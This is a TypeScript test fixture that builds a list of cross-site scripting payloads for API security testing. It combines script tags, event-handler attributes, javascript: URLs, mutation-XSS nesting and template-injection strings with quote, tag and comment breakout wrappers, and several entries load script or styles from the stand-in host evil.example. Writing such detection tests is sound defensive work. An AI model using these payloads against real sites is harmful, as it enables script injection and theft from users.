import { isNightly } from '@solvent/api-testing/nightly'

/** Set by a payload that runs. */
const HIT = 'top.hit=1'

const payloads = [
  `<script>${HIT}</script>`,
  `<ScRiPt>${HIT}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${HIT}>`,
  `<img/src=x/onerror="${HIT}"//`,
  `<svg onload=${HIT}>`,
  `<svg/onload=${HIT}//`,
  `<svg><script>${HIT}</script></svg>`,
  `<iframe src="javascript:${HIT}"></iframe>`,
  `<iframe srcdoc="<script>${HIT}</script>">`,
  `<body onload=${HIT}>`,
  `<details open ontoggle=${HIT}>`,
  `<input autofocus onfocus=${HIT}>`,
  `<video><source onerror=${HIT}></video>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${HIT}>`,
  `<a href="javascript:${HIT}">a</a>`,
  `<object data="javascript:${HIT}">`,
  `<embed src="javascript:${HIT}">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<form action=javascript:${HIT}><button>b`,
  `javascript:${HIT}`,
  `[a](javascript:${HIT})`,
]

/** Prefixes that break out of the context in which a text may be inserted. */
const wrappers: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `</script>${payload}`,
  (payload) => `</textarea></title></style>${payload}`,
  (payload) => `-->${payload}<!--`,
  (payload) => `{{constructor.constructor('${HIT}')()}}${payload}`,
  (payload) => `\\u003c\${${HIT}}\`;${HIT}//${payload}`,
]

/**
 * Texts that run as a script on a vulnerable page: nightly each payload in each wrapper, otherwise each payload in two
 * of them.
 */
export const xssPayloads: readonly string[] = payloads.flatMap((payload, index) =>
  wrappers.filter((_, place) => isNightly || (index + place) % 4 === 0).map((wrap) => wrap(payload)),
)
